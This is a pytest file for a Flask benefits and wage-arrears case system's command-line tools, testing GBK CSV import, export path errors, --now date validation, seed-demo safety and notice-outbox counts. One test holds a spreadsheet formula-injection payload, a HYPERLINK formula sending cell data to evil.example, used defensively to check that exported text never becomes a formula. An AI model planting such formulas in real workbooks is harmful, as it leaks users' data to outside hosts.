"""Command-line input that used to end in a traceback: a CSV saved by Chinese Excel (GBK), an export into a missing
directory, a `--now` far outside the calendar, `seed-demo` on a database that has data. Each is now a clear
`error: ...` or usage error with exit status 2 and nothing changed; and exported text stays text in every
openpyxl workbook (engine.xlsx)."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from engine import services, xlsx
from engine.benefit_rates import BenefitRate, import_rates
from engine.db import db
from engine.models import Case, User
from engine.posts import Post
from engine.textfiles import decode_text
from engine.validation import DataInvalid
from tests.conftest import at
from tests.factories import wage_arrears_intake

SAMPLE = Path(__file__).resolve().parents[2] / "bpmn" / "benefit_claim" / "sample_rates_532300.csv"


def run(app, *args: str):
    return app.test_cli_runner().invoke(args=list(args))


def refused(result) -> bool:
    """Exit status 2 through fail() or click's usage errors: no traceback, no exception but the exit itself."""
    return result.exit_code == 2 and isinstance(result.exception, SystemExit) and "Traceback" not in result.output


def rates_count() -> int:
    return db.session.scalar(select(func.count()).select_from(BenefitRate))


# ---------------------------------------------------------------------------------------------------------------
# Bug 1: text files in GBK.

@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8-sig", "utf-8"])
def test_rates_import_reads_what_excel_saves(app, ctx, tmp_path, encoding):
    text = SAMPLE.read_text(encoding="utf-8")
    path = tmp_path / f"rates-{encoding}.csv"
    path.write_bytes(text.replace("\n", "\r\n").encode(encoding))
    result = run(app, "benefits", "rates", "import", str(path))
    assert result.exit_code == 0, result.output
    db.session.expire_all()
    notes = set(db.session.scalars(select(BenefitRate.note)))
    assert rates_count() > 0 and any("楚雄州" in n for n in notes), notes


def test_rates_import_names_a_file_that_is_not_text(app, ctx, tmp_path):
    for name, raw in (("utf16.csv", SAMPLE.read_text(encoding="utf-8").encode("utf-16")),
                      ("binary.csv", b"region\n\x81\xff\xfe\x00")):
        path = tmp_path / name
        path.write_bytes(raw)
        result = run(app, "benefits", "rates", "import", str(path))
        assert refused(result), result.output
        assert f"error: file: {path} 不是 UTF-8 或 GBK" in result.output
    assert rates_count() == 0


def test_one_decoder_for_every_importer(ctx):
    text = "region,note\n532300,楚雄州\n"
    assert decode_text(text.encode("gbk"), "a.csv") == text
    assert decode_text(("\ufeff" + text).encode("utf-8"), "a.csv") == text  # the BOM is dropped
    with pytest.raises(DataInvalid) as err:
        decode_text(b"\xff\xfe\x00", "a.csv")
    assert "a.csv" in err.value.fields["file"]
    # The engine's importer takes the file's bytes too.
    result = import_rates(SAMPLE.read_text(encoding="utf-8").encode("gbk"), "test", at("2021-01-01 09:00"))
    assert result.created > 0


# ---------------------------------------------------------------------------------------------------------------
# Bug 2: exporting to a path that cannot be written.

def test_ledger_export_to_a_missing_directory_is_a_usage_error(app, ctx, tmp_path):
    target = tmp_path / "missing" / "lists.xlsx"
    result = run(app, "ledger", "export", str(target))
    assert refused(result), result.output
    assert "does not exist" in result.output and str(target.parent) in result.output
    assert not target.parent.exists()


def test_a_failed_save_leaves_no_half_written_file(ctx, tmp_path, monkeypatch):
    target = tmp_path / "lists.xlsx"
    target.write_bytes(b"yesterday's export")
    workbook = Workbook(write_only=True)
    workbook.create_sheet("a")

    def disk_full(stream) -> None:
        stream.write(b"PK half a zip")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(workbook, "save", disk_full)
    with pytest.raises(DataInvalid) as err:
        xlsx.save(workbook, target)
    assert "No space left on device" in err.value.fields["path"]
    assert target.read_bytes() == b"yesterday's export"
    assert [p.name for p in tmp_path.iterdir()] == ["lists.xlsx"]
    # A path that is a directory: refused the same way, nothing left behind.
    with pytest.raises(DataInvalid):
        xlsx.save(Workbook(), tmp_path)
    assert [p.name for p in tmp_path.iterdir()] == ["lists.xlsx"]


def test_ledger_export_replaces_a_file_whole(app, ctx, tmp_path):
    target = tmp_path / "lists.xlsx"
    target.write_bytes(b"old")
    result = run(app, "ledger", "export", str(target))
    assert result.exit_code == 0, result.output
    load_workbook(target).close()  # a complete workbook
    assert [p.name for p in tmp_path.iterdir()] == ["lists.xlsx"]


# ---------------------------------------------------------------------------------------------------------------
# Bug 3: one type for every --now.

NOW_COMMANDS = [("sweep", "--dry-run"), ("benefits", "pay"), ("dashboard", "snapshot")]


@pytest.mark.parametrize("command", NOW_COMMANDS, ids=lambda c: " ".join(c))
@pytest.mark.parametrize("value", ["0001-01-01T00:00+08:00", "9999-12-31T23:00-08:00", "1999-12-31T23:59+08:00",
                                   "2101-01-01T00:00+08:00"])
def test_now_far_outside_the_calendar_is_a_usage_error(app, ctx, command, value):
    result = run(app, *command, "--now", value)
    assert refused(result), result.output
    assert "Invalid value for '--now'" in result.output and "the year must be 2000 to 2100" in result.output


@pytest.mark.parametrize("command", NOW_COMMANDS, ids=lambda c: " ".join(c))
def test_now_in_range_is_taken(app, ctx, command):
    bad = run(app, *command, "--now", "next monday")
    assert refused(bad) and "use ISO 8601" in bad.output
    for value in ("2021-02-01T09:00+08:00", "2021-02-01T09:00"):  # without an offset: Beijing time
        result = run(app, *command, "--now", value)
        assert result.exit_code == 0, result.output
    assert "2021-02-01T09:00:00+08:00" in run(app, "sweep", "--dry-run", "--now", "2021-02-01T09:00").output


# ---------------------------------------------------------------------------------------------------------------
# Bug 4: seed-demo on a database that has data.

def test_seed_demo_refuses_a_database_with_data_before_changing_anything(app, inspector):
    services.open_case(inspector, "wage_arrears", "532301", wage_arrears_intake(), at("2021-02-01 09:00"))
    result = run(app, "seed-demo")
    assert refused(result), result.output
    assert "error: demo data already present (cases: 1); nothing changed" in result.output
    assert "--if-empty" in result.output
    db.session.expire_all()
    assert db.session.scalar(select(func.count()).select_from(User)) == 1
    assert db.session.scalar(select(func.count()).select_from(Case)) == 1
    assert db.session.scalar(select(func.count()).select_from(Post)) == 0
    assert rates_count() == 0

    result = run(app, "seed-demo", "--if-empty")
    assert result.exit_code == 0 and "nothing to do" in result.output


# ---------------------------------------------------------------------------------------------------------------
# Bug 5: text stays text in every workbook (the ledger's round trip is in test_ledger.py).

@pytest.mark.parametrize("write_only", [True, False])
def test_text_cells_never_become_formulas(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s")
    evil = '=HYPERLINK("http://evil.example/?"&C2,"点击")'
    xlsx.append_row(sheet, ["标题", evil, "+1", "-", 5, None, "bell\x07"])
    buffer = io.BytesIO()
    xlsx.save(workbook, buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[-1].iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells] == [
        ("标题", "s"), (evil, "s"), ("+1", "s"), ("-", "s"), (5, "n"), (None, "n"), ("bell", "s")]
    assert cells[1].quotePrefix and not cells[0].quotePrefix


# ---------------------------------------------------------------------------------------------------------------
# The demo's campaign follows the winter it is seeded in (the rules' defaults are the 2020-21 campaign).

def test_the_demo_campaign_is_this_winters(ctx):
    from datetime import date

    from engine import rule_settings
    from engine.rules import RULES
    from web import demo

    # The seed notices' own campaign comes out as the rules' defaults: the eve of the 2021 holiday is 10 February.
    assert demo.campaign_of_season(date(2021, 1, 5)) == {key: RULES[key].default for key in demo.CAMPAIGN_RULES}
    # A make-up working day before the holiday (Sat 14 Feb 2026 was one) is not the first day off.
    assert demo.campaign_of_season(date(2025, 12, 1))["clear_zero_spring_festival_deadline"] == "2026-02-14"
    assert demo.campaign_of_season(date(2026, 11, 27)) == {
        "campaign_start": "2026-11-01", "clear_zero_year_end_deadline": "2026-12-31",
        # A year chinese_calendar does not know yet: the day before New Year's Eve (Fri 5 Feb 2027), not a day
        # after the festival (Sat 6 Feb).
        "clear_zero_spring_festival_deadline": "2027-02-04"}
    rule_settings.set_rule("clear_zero_year_end_deadline", "2026-12-20", "admin", at("2026-10-01 09:00"))
    lines: list[str] = []
    demo._set_campaign(at("2026-11-27 09:00"), lines.append)
    in_force = {r.key: str(r.value) for r in rule_settings.rules_in_force()}
    assert in_force["clear_zero_year_end_deadline"] == "2026-12-20"  # what the province set is kept
    assert in_force["campaign_start"] == "2026-11-01"
    assert "2027-02-04" in lines[0]


# ---------------------------------------------------------------------------------------------------------------
# The notices' outbox as the operator sees it.

def test_the_outbox_counts_notices_never_tried_and_failed_ones(app, inspector, monkeypatch):
    """QA: `flask documents failures` said "0 notices waiting or failed" with 561 in the outbox (it counted only
    notices that had failed once), and `flask sweep` printed "0 errors, 0 notices rendered" while every render
    failed."""
    import pdfs
    from engine import documents
    from tests.integration.test_pages import OPENED, open_wage_case, the_task

    for _ in range(2):
        case = open_wage_case(inspector)
        services.complete_task(inspector, the_task(case).id, {"decision": "accept"}, case.version, OPENED)
    assert "notices not rendered yet: 2 waiting, 0 failed and to be retried, 0 given up" in run(
        app, "documents", "failures").output

    def broken(kind, facts):
        raise OSError("documents folder not writable")

    monkeypatch.setattr(pdfs, "render", broken)
    swept = run(app, "sweep", "--now", "2021-03-01T12:00:00+08:00")
    assert "0 notices rendered" in swept.output
    assert "notices not rendered yet: 0 waiting, 2 failed and to be retried, 0 given up" in swept.output
    listed = run(app, "documents", "failures").output
    assert listed.count("documents folder not writable") == 2
    assert documents.outbox() == documents.Outbox(waiting=0, retrying=2, failed=0)


def test_listing_rates_of_a_region_that_is_no_code_is_a_usage_error(app, ctx):
    """QA: `flask benefits rates list --region abc` printed "0 rates" and exited 0, as if none were loaded."""
    assert refused(run(app, "benefits", "rates", "list", "--region", "abc"))
    assert run(app, "benefits", "rates", "list", "--region", "532301").exit_code == 0
